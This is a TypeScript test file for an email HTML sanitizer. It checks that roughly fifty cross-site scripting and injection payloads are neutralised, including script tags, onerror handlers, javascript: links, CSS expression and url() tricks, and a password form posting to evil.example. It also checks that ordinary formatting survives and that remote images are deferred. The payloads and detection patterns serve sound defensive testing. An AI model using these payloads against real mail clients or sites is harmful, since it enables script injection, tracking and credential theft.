/** Attacks on the reader of a mail, one line each, and what must survive them. */
import { foldHtml } from "@luwte/language/replies/html.ts";
import { tokensOf } from "@luwte/language/replies/htmlTokens.ts";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { makeSafe, remoteImagesIn, withAttachmentAddresses, withRemoteImages } from "./rules.ts";

const safe = (html: string): string => makeSafe(foldHtml(html)?.html ?? "").html;

const FORBIDDEN_TAG =
  /^(?:script|iframe|object|embed|form|input|button|meta|link|base|svg|math|video|audio|source|picture|frame|applet|template|textarea|title|noscript)$/;
const DATA_PICTURE = /^data:image\/(?:png|jpe?g|gif|webp|bmp|avif);base64,[a-z0-9+/=\s]*$/i;
const FORBIDDEN_CSS = /url\s*\(|@import|expression|\\|binding|behavior|image|position/i;

/** What in the result may run, load, send or leave the frame: every one of these is a breach. */
function breaches(html: string): string[] {
  return (tokensOf(safe(html)) ?? []).flatMap((token, at, all) => {
    if (token.kind === "text") {
      const before = all[at - 1];
      const inStyle = before?.kind === "open" && before.name === "style";
      return inStyle && FORBIDDEN_CSS.test(token.text) ? [token.text] : [];
    }
    if (token.kind === "close") return [];
    const attributes = Object.entries(token.attributes).filter(([name, value]) => isBreach(name, value));
    return [...(FORBIDDEN_TAG.test(token.name) ? [token.name] : []), ...attributes.map((pair) => pair.join("="))];
  });
}

function isBreach(name: string, value: string): boolean {
  if (/^on|^(?:srcset|background|action|formaction|id|poster|xlink:href|ping)$/.test(name)) return true;
  if (name === "src") return !DATA_PICTURE.test(value);
  if (name === "href") return !/^(?:https?:|mailto:|tel:)/i.test(value);
  if (name === "style") return FORBIDDEN_CSS.test(value);
  return name === "target" && value !== "_blank";
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/p.gif' srcset='https://evil.example/q.gif 2x'>",
  "<img src=//evil.example/p.gif>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<img src='data:text/html,<script>1</script>'>",
  "<img src='file:///etc/passwd'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='vbscript:x'>x</a>",
  "<iframe src='https://evil.example'></iframe>",
  "<object data='x'></object><embed src='x'>",
  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
  "<svg onload=alert(1)><animate/></svg><math><mi xlink:href='javascript:1'>x</mi></math>",
  "<style>@import url(https://evil.example/x.css); body{background:url('https://evil.example/p')}</style>",
  "<style>a{color:red;background-image:url(x)} b{behavior:url(x.htc);-moz-binding:url(x)}</style>",
  "<style>a{w\\69 dth:expression(alert(1))} i{background:u\\72l(x)}</style>",
  "<style></style><img src=x onerror=1></style>",
  "<style><!--</style><script>alert(1)</script>-->",
  "<div style='background:url(https://evil.example/p)'>x</div>",
  "<div style='background:u\\72l(x)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
  "<div style=\"background-image: image-set('https://evil.example/p' 1x)\">x</div>",
  "<div style='color:red;/*'>*/background:url(x)</div>",
  "<table background='https://evil.example/p'><tr><td background='https://evil.example/q'>x</td></tr></table>",
  "<body background='https://evil.example/p' onload=alert(1)>x</body>",
  "<video src='https://evil.example/v' poster='https://evil.example/p'></video><audio src=x></audio>",
  "<picture><source srcset='https://evil.example/p'><img src='https://evil.example/q'></picture>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
  "<p title='&quot;><img src=x onerror=alert(1)>'>x</p>",
  "<p data-luwte-fold='&quot; onmouseover=&quot;alert(1)'>x</p>",
  "<img alt='&quot; onerror=&quot;alert(1)' src=x>",
  "<a id=location name=cookie href=#x>x</a>",
  "<img/src='x'/onerror=alert(1)>",
  "<<img src=x onerror=alert(1)>>",
  "<img src='x' onerror\u0000=alert(1)>",
  "<p><![CDATA[<img src=x onerror=alert(1)>]]></p>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<a href='https://ok.example' target=_self rel=opener>x</a>",
  "<img src='cid:x\" onerror=\"alert(1)'>",
] as const;

describe("attacks", () => {
  test.each(ATTACKS.map((attack) => [attack]))("%s", (attack) => {
    expect(breaches(`<p>Dag</p>${attack}`)).toEqual([]);
    // The reader above passes these over; written text has no bare bracket, so each would be a real tag.
    expect(safe(attack)).not.toMatch(/<\/?(?:script|title|noscript|template|textarea|select)/i);
  });

  test("any mixture of them", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string()), { maxLength: 12 }), (pieces) => {
        expect(breaches(pieces.join(""))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

describe("what stays", () => {
  test.each([
    [
      "<p style='color:red;margin:0 0 8px'>Een <b>twee</b></p>",
      '<p style="color:red;margin:0 0 8px">Een <b>twee</b></p>',
    ],
    [
      "<table border=1><tr><td colspan=2 bgcolor='#eeeeee'>x</td></tr></table>",
      '<table border="1"><tr><td colspan="2" bgcolor="#eeeeee">x</td></tr></table>',
    ],
    ["<font color=red size=2>x</font>", '<font color="red" size="2">x</font>'],
    [
      "<a href='https://x.example/?a=1&amp;b=2'>x</a>",
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      "<a href='mailto:a@x.example'>x</a>",
      '<a href="mailto:a@x.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    ],
    ["<img src='data:image/png;base64,AAAA' alt=x>", '<img alt="x" src="data:image/png;base64,AAAA" />'],
    [
      "<style>p.MsoNormal{margin:0cm;font-size:11pt}</style><p class=MsoNormal>x</p>",
      '<style>p.MsoNormal{margin:0cm;font-size:11pt}</style><p class="MsoNormal">x</p>',
    ],
    [
      "<style>@media (max-width:600px){td{width:100%}}</style>x",
      "<style>@media (max-width:600px){td{width:100%}}</style>x",
    ],
  ])("%s", (html, expected) => {
    expect(safe(html)).toBe(expected);
  });
});

describe("pictures", () => {
  const html = "<img src='https://x.example/a.png?u=1&amp;v=2'><img src='//x.example/b.png'><img src='cid:p1@x'>";

  test("from outside wait, and are counted", () => {
    expect(makeSafe(html).remoteImages).toBe(2);
    expect(safe(html)).toBe(
      '<img data-luwte-src="https://x.example/a.png?u=1&amp;v=2" /><img data-luwte-src="https://x.example/b.png" /><img data-luwte-cid="p1@x" />',
    );
  });

  test("are shown when asked for, each by its place and never from its own address", () => {
    const shown = withRemoteImages(safe(html), (place) => `/pictures/${place}`);
    expect(shown).toContain('<img src="/pictures/0" /><img src="/pictures/1" />');
    expect(shown).not.toContain("x.example");
    expect(remoteImagesIn(safe(html))).toEqual(["https://x.example/a.png?u=1&v=2", "https://x.example/b.png"]);
  });

  test("of the mail itself get the address that they are served from", () => {
    expect(withAttachmentAddresses(safe(html), (id) => (id === "p1@x" ? "/api/files/1" : undefined))).toContain(
      '<img src="/api/files/1" />',
    );
  });

  test("of the mail itself that are missing stay empty", () => {
    expect(withAttachmentAddresses(safe(html), () => undefined)).toContain('data-luwte-cid="p1@x"');
  });
});
